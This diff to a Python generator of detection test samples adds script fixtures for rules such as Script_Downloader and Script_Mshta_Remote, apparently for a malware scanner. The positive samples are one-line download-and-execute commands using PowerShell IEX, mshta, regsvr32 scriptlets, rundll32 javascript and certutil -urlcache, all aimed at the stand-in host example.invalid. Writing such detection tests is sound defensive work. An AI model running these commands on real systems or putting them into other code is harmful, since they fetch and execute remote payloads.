@@ -429,6 +429,73 @@ def macro_samples(s: Samples):
           filetype="text")
 
 
+def script_samples(s: Samples):
+    DL, AX, SH, MSHTA, REG, RUN, CERT = (
+        "Script_Downloader", "Script_ActiveXObject", "Script_WScript_Shell_Run",
+        "Script_Mshta_Remote", "Script_Regsvr32_Scriptlet", "Script_Rundll32_Suspicious",
+        "Script_Certutil_Decode")
+
+    def text(name, content, expects, filetype="text"):
+        s.add(name, content.encode("utf-8"), expects, filetype=filetype)
+
+    # --- Script_Downloader: a fetch plus a save or a run, in a script
+    text("dl_xmlhttp.vbs",
+         'Set x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", "http://example.invalid/a", False\r\n'
+         'x.Send\r\nSet st = CreateObject("ADODB.Stream")\r\nst.Open\r\nst.Type = 1\r\n'
+         'st.Write x.responseBody\r\nst.SaveToFile "a.exe", 2\r\n', {DL: True, AX: False})
+    text("dl_iwr.ps1",
+         "Invoke-WebRequest -Uri http://example.invalid/a.exe -OutFile $env:TEMP\\a.exe\r\n"
+         "Start-Process $env:TEMP\\a.exe\r\n", {DL: True})
+    text("dl_webclient_utf16.ps1",
+         "\ufeff$c = New-Object Net.WebClient; IEX $c.DownloadString('http://example.invalid/s')\r\n",
+         {DL: True})
+    # the same words in a how-to are not a script
+    text("dl_howto.txt",
+         "To fetch the report, run Invoke-WebRequest -Uri https://example.com/r.csv -OutFile r.csv\n",
+         {DL: False})
+    # a script that only reads a web service and saves nothing
+    text("dl_get_only.js",
+         'var x = new XMLHttpRequest(); x.open("GET", "/api/status"); x.send();\n', {DL: False})
+
+    # --- Script_ActiveXObject
+    text("ax_shell.js", 'var sh = new ActiveXObject("WScript.Shell");\n', {AX: True, SH: False})
+    text("ax_fso.jse.js", "var fs = new ActiveXObject('Scripting.FileSystemObject');\n", {AX: True})
+    text("ax_benign.js", 'var xml = new ActiveXObject("MSXML2.DOMDocument.6.0");\n', {AX: False})
+    text("ax_in_text.txt", 'Older pages used new ActiveXObject("WScript.Shell") in IE.\n',
+         {AX: False})
+
+    # --- Script_WScript_Shell_Run
+    text("sh_run.vbs", 'Set sh = CreateObject("WScript.Shell")\r\nsh.Run "calc.exe", 0\r\n',
+         {SH: True})
+    text("sh_exec.js", 'var sh = new ActiveXObject("WScript.Shell"); sh.Exec("cmd /c whoami");\n',
+         {SH: True, AX: True})
+    text("sh_app.vbs",
+         'Set a = CreateObject("Shell.Application")\r\na.ShellExecute "cmd.exe", "/c calc", "", "open", 0\r\n',
+         {SH: True})
+    text("sh_env_only.vbs",
+         'Set sh = CreateObject("WScript.Shell")\r\nWScript.Echo sh.ExpandEnvironmentStrings("%TEMP%")\r\n',
+         {SH: False})
+
+    # --- command lines
+    text("mshta_url.bat", "mshta http://example.invalid/a.hta\r\n", {MSHTA: True})
+    text("mshta_inline.cmd",
+         'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")\r\n',
+         {MSHTA: True})
+    text("mshta_local.bat", "mshta C:\\Tools\\setup.hta\r\n", {MSHTA: False})
+    text("regsvr32_url.bat",
+         "regsvr32 /s /n /u /i:http://example.invalid/file.sct scrobj.dll\r\n", {REG: True})
+    text("regsvr32_plain.bat", "regsvr32 /s C:\\Program Files\\App\\plugin.dll\r\n",
+         {REG: False})
+    text("rundll32_js.bat",
+         'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)\r\n', {RUN: True})
+    text("rundll32_temp.bat", "rundll32 %TEMP%\\x.dll,DllRegisterServer\r\n", {RUN: True})
+    text("rundll32_system.bat", "rundll32 shell32.dll,Control_RunDLL desk.cpl\r\n", {RUN: False})
+    text("certutil_decode.bat", "certutil -decode payload.b64 payload.exe\r\n", {CERT: True})
+    text("certutil_urlcache.cmd",
+         "certutil.exe -urlcache -split -f http://example.invalid/a.exe a.exe\r\n", {CERT: True})
+    text("certutil_dump.bat", "certutil -dump cert.cer\r\n", {CERT: False})
+
+
 def main(argv):
     if len(argv) != 2:
         print(f"usage: {argv[0]} OUTDIR", file=sys.stderr)
@@ -441,6 +508,7 @@ def main(argv):
     powershell_samples(s)
     office_samples(s)
     macro_samples(s)
+    script_samples(s)
     s.write_manifest()
     nsamples = len({e["sample"] for e in s.manifest})
     print(f"wrote {nsamples} samples, {len(s.manifest)} manifest entries to {outdir}")
